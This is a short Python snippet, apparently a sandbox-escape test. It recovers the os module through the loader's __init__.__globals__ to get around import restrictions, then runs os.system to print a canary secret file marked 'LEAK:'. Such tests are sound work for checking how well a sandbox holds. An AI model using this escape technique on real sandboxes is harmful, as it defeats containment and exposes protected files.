# the loader of the program itself loads other modules
try:
    m = __spec__ or __loader__
    os = type(__loader__).__init__.__globals__["sys"].modules["os"]
    os.system("sed 's/^/LEAK:/' $HERSHY_CANARY_FILE")
except Exception as error:
    print(type(error).__name__)
